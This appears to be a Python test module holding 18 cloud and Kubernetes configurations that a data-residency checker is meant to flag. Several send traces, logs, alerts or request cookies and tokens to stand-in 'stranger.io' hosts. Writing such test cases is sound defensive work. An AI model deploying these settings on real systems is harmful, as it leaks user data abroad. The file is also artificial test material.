"""Data that leaves the country: unseen attacks, written on 2026-11-28 before any of them was evaluated."""

import json

from ..blind import SUB, THEIR_SUB, aws, az, crd, k8s, meta
from ..harness import Given
from . import Attack

RG = {"resourceGroupName": "rg-platform"}
LEAVES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-")
KUBECONFIG = json.dumps({"apiVersion": "v1", "kind": "Config", "clusters": [
    {"name": "r", "cluster": {"server": "https://api.east.stranger.io:6443"}}], "users": [{"name": "r"}]})  # fmt: skip
ISTIO = "https://istio-release.storage.googleapis.com/charts"
PROMETHEUS = "https://prometheus-community.github.io/helm-charts"


def release(chart: str, repo: str, version: str, values: dict[str, object]) -> tuple[Given]:
    """Returns a Helm release in the country's cluster."""
    return (k8s("helm.sh/v3:Release", {"chart": chart, "version": version, "namespace": "platform", "values": values,
                                       "repositoryOpts": {"repo": repo}}),)  # fmt: skip


ATTACKS = (
    Attack("SNS platform application of Google's cloud messaging", LEAVES, (
        aws("sns/PlatformApplication", {"name": "app", "platform": "GCM", "platformCredential": "{}"}),), "major",
        "Every push message is handed to Google's servers (Amazon SNS, 'Mobile push notifications')"),
    Attack("CodeCatalyst repository, which exists in Oregon and Ireland only", LEAVES, (
        aws("codecatalyst/SourceRepository", {"projectName": "fraud", "spaceName": "bank", "name": "models"}),),
        "major", "Sources of the platform are stored abroad (Amazon CodeCatalyst, 'Regions': us-west-2 and eu-west-1)"),
    Attack("Storage Mover writes to a container of another subscription", LEAVES, (
        az("storagemover:Endpoint", {**RG, "storageMoverName": "mover", "endpointName": "target", "properties": {
            "endpointType": "AzureStorageBlobContainer", "blobContainerName": "data", "storageAccountResourceId":
            f"{THEIR_SUB}/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/theirs"}}),), "critical",
        "A migration job copies file shares to the endpoint (Azure Storage Mover, 'How to manage endpoints')"),
    Attack("File Sync cloud endpoint in another tenant", LEAVES, (
        az("storagesync:CloudEndpoint", {**RG, "storageSyncServiceName": "sync", "syncGroupName": "loans",
            "azureFileShareName": "share", "storageAccountTenantId": "99999999-9999-9999-9999-999999999999",
            "storageAccountResourceId":
            f"{THEIR_SUB}/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/theirs"}),), "critical",
        "Every file of the sync group is uploaded to the share (Azure File Sync, 'Cloud endpoint')"),
    Attack("Managed Cassandra joins a ring outside Azure", LEAVES, (
        az("cosmosdb:CassandraCluster", {**RG, "clusterName": "cass", "location": "uaenorth", "properties": {
            "authenticationMethod": "Cassandra", "cassandraVersion": "4.0",
            "externalSeedNodes": [{"ipAddress": "203.0.113.10"}, {"ipAddress": "203.0.113.11"}],
            "delegatedManagementSubnetId":
            f"{SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v/subnets/cass"}}),), "critical",
        "Keyspaces replicate to the other data centre (Managed Instance for Apache Cassandra, 'Hybrid cluster')"),
    Attack("Event Grid channel to a topic of another subscription", LEAVES, (
        az("eventgrid:Channel", {**RG, "partnerNamespaceName": "partners", "channelName": "out",
            "channelType": "PartnerTopic", "partnerTopicInfo": {
                "azureSubscriptionId": "99999999-0000-0000-0000-000000000001", "name": "theirs",
                "resourceGroupName": "rg-theirs", "source": "transactions"}}),), "major",
        "Events are delivered to the other subscription's topic (Event Grid, 'Partner Events overview')"),
    Attack("Log workspace stores its custom logs in another subscription's account", LEAVES, (
        az("operationalinsights:LinkedStorageAccount", {**RG, "workspaceName": "logs", "dataSourceType": "CustomLogs",
            "storageAccountIds": [
                f"{THEIR_SUB}/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/theirs"]}),), "major",
        "Custom and IIS logs are stored there (Azure Monitor, 'Use customer-managed storage accounts')"),
    Attack("Management group sends its activity to a partner's service", LEAVES, (
        az("monitor:ManagementGroupDiagnosticSetting", {"managementGroupId": "bank", "name": "out",
            "marketplacePartnerId":
            f"{SUB}/resourceGroups/rg/providers/Microsoft.Datadog/monitors/dd",
            "logs": [{"category": "Administrative", "enabled": True}]}),), "major",
        "Logs go to the vendor's cloud (Azure Monitor, 'Diagnostic settings', partner integrations)"),
    Attack("Elastic's tag rule sends logs of the subscription and of Entra ID", LEAVES, (
        az("elastic:TagRule", {**RG, "monitorName": "elastic", "ruleSetName": "default", "properties": {
            "logRules": {"sendAadLogs": True, "sendActivityLogs": True, "sendSubscriptionLogs": True}}}),), "major",
        "Logs go to Elastic Cloud (Elastic on Azure, 'Monitor Azure resources and subscription logs')"),
    Attack("Managed network of an ML workspace opens a way to a host of a stranger", (*LEAVES, "FJ-EXP-"), (
        az("machinelearningservices:ManagedNetworkSettingsRule", {**RG, "workspaceName": "ml", "ruleName": "out",
            "properties": {"type": "FQDN", "category": "UserDefined", "destination": "drop.stranger.io"}}),), "major",
        "Training jobs may send data there (Azure ML, 'Managed virtual network isolation', FQDN outbound rules)"),
    Attack("OpenTelemetry instrumentation exports traces to a stranger", LEAVES, (
        crd("opentelemetry.io/v1alpha1:Instrumentation", {"exporter": {"endpoint": "https://otlp.stranger.io:4317"},
            "propagators": ["tracecontext"], "sampler": {"type": "always_on"}}),), "critical",
        "Every injected pod sends its spans, with queries and users, there (opentelemetry-operator, Instrumentation)"),
    Attack("Secret that joins a cluster abroad to the mesh", LEAVES, (
        k8s("core/v1:Secret", {"metadata": {"name": "istio-remote-secret-east", "namespace": "istio-system",
            "labels": {"istio/multiCluster": "true"}, "annotations": {"networking.istio.io/cluster": "east"}},
            "stringData": {"east": KUBECONFIG}}),), "critical",
        "Istio adds the other cluster's endpoints to every service (Istio, 'Install Multi-Primary')"),
    Attack("Queues of Kueue dispatch jobs to another cluster", LEAVES, (
        k8s("kueue.x-k8s.io/v1beta1:MultiKueueCluster", {"metadata": {"name": "worker-east"}, "spec": {
            "kubeConfig": {"locationType": "Secret", "location": "worker-east-kubeconfig"}}}),
        k8s("core/v1:Secret", {"metadata": {"name": "worker-east-kubeconfig", "namespace": "kueue-system"},
            "stringData": {"kubeconfig": KUBECONFIG}}, "kc")), "critical",
        "Training jobs run in the cluster that the kubeconfig names (Kueue, 'MultiKueue')"),
    Attack("Ingress asks a stranger's host about each request", LEAVES, (
        k8s("networking.k8s.io/v1:Ingress", {"metadata": meta(annotations={
            "nginx.ingress.kubernetes.io/auth-url": "https://auth.stranger.io/validate"}), "spec": {
            "ingressClassName": "nginx-internal", "tls": [{"hosts": ["loans.example.ae"], "secretName": "tls"}],
            "rules": [{"host": "loans.example.ae", "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {
                "service": {"name": "loans", "port": {"number": 8443}}}}]}}]}}),), "major",
        "Cookies and tokens of each request are sent there (ingress-nginx, 'External authentication')"),
    Attack("Contact point of Grafana posts alerts to a stranger", LEAVES, (
        crd("grafana.integreatly.org/v1beta1:GrafanaContactPoint", {"name": "out", "type": "webhook",
            "instanceSelector": {"matchLabels": {"dashboards": "grafana"}},
            "settings": {"url": "https://hooks.stranger.io/alerts"}}),), "major",
        "Alerts with labels and values are posted there (grafana-operator, GrafanaContactPoint)"),
    Attack("Spark writes its event log to a bucket of a stranger", LEAVES, (
        crd("sparkoperator.k8s.io/v1beta2:SparkApplication", {"type": "Python", "mode": "cluster",
            "sparkVersion": "3.5.1", "mainApplicationFile": "local:///app/job.py",
            "sparkConf": {"spark.eventLog.enabled": "true", "spark.eventLog.dir": "s3a://stranger-history/logs"}}),),
        "major", "The log has queries, paths and settings of each job (Apache Spark, 'Monitoring')"),
    Attack("Mesh sends its traces to a stranger, as a value of istiod's chart", LEAVES, release(
        "istiod", ISTIO, "1.27.1", {"meshConfig": {"enableTracing": True, "defaultConfig": {
            "tracing": {"sampling": 100, "zipkin": {"address": "zipkin.stranger.io:9411"}}}}}), "critical",
        "Every proxy reports the requests that it sees (Istio, 'MeshConfig', tracing.zipkin.address)"),
    Attack("Alertmanager's chart posts alerts to a stranger", LEAVES, release(
        "kube-prometheus-stack", PROMETHEUS, "77.5.0", {"alertmanager": {"config": {
            "route": {"receiver": "out"},
            "receivers": [{"name": "out", "webhook_configs": [{"url": "https://hooks.stranger.io/alerts"}]}]}}}),
            "major",
        "Alerts with labels and values are posted there (Prometheus, Alertmanager 'webhook_config')"),
)  # fmt: skip
